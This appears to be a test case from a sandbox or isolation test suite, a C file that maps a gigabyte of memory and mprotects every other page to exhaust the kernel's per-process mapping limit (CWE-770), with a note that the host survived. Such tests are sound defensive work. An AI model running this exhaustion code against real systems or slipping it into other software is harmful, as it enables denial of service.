/* Tries: to use up the mappings that a process may have
 * From: CWE-770; max_map_count
 * Observed: The host can still map memory.
 * Needs: linux */
#include "attacks/attack.h"

#ifdef ATTACK_FOREIGN
FOREIGN(run)
{
    /* Every second page of a large mapping is protected otherwise. */
    const uint64_t size = 1ull << 30;
    long start = kernel6(SYS_mmap, 0, size, 0, 0x4022, -1, 0); /* no access, not reserved */
    for (uint64_t page = 0; page < size; page += 8192)
        if (kernel3(SYS_mprotect, (uint64_t)start + page, 4096, 1))
            break;
    return 0;
}
#endif

#ifdef ATTACK_HOST
/* The clock is not to be what ends it. */
HOST(before)
{
    host->deadline_ms = 6000;
}
#endif
